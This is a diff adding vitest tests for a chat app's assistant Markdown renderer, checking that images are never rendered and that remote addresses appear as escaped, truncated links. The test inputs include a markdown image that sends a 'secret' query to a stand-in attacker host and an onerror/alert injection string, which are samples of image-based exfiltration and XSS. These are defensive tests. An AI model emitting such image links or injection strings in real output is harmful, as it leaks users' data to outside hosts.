@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { streamBlocks } from "./Markdown";
+import { renderAssistantMarkdown, streamBlocks } from "./Markdown";
 
 describe("streamed Markdown", () => {
   it("splits at blank lines, keeping a code fence with its blank lines whole", () => {
@@ -14,5 +14,37 @@ describe("streamed Markdown", () => {
     const before = streamBlocks(text);
     const after = streamBlocks(`${text}，写完了。\n\n四`);
     expect(after.slice(0, before.length - 1)).toEqual(before.slice(0, -1));
+  });
+});
+
+describe("images in assistant Markdown", () => {
+  const dom = (text: string) => {
+    const div = document.createElement("div");
+    div.innerHTML = renderAssistantMarkdown(text);
+    return div;
+  };
+
+  it("never renders an <img>: a remote image shows its address as a link instead", () => {
+    const div = dom("看这里 ![x](https://evil.example/?q=secret) 完");
+    expect(div.querySelector("img")).toBeNull();
+    const link = div.querySelector<HTMLAnchorElement>(".md-image a");
+    expect(link?.getAttribute("href")).toBe("https://evil.example/?q=secret");
+    expect(link?.textContent).toBe("https://evil.example/?q=secret");
+    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(div.querySelector(".md-image")?.textContent).toContain("x");
+  });
+
+  it("shows other addresses as text, escaped, and cuts a long one", () => {
+    for (const text of [
+      "![a](data:image/png;base64,iVBORw0KGgo=)",
+      '![<b>a</b>](http://evil.example/"onerror=alert(1))',
+      `![p](https://evil.example/${"q".repeat(500)})`,
+      "[![badge](https://evil.example/b.svg)](https://evil.example/)",
+      "![ref][r]\n\n[r]: https://evil.example/r.png",
+    ])
+      expect(dom(text).querySelector("img"), text).toBeNull();
+    expect(dom("![a](data:image/png;base64,iVBORw0KGgo=)").querySelector(".md-image code")?.textContent).toBe("data:image/png;base64,iVBORw0KGgo=");
+    expect(dom('![<b>a</b>](http://x.example/a"b)').querySelector("b")).toBeNull();
+    expect(dom(`![p](https://evil.example/${"q".repeat(500)})`).querySelector(".md-image a")?.textContent?.length).toBe(201);
   });
 });
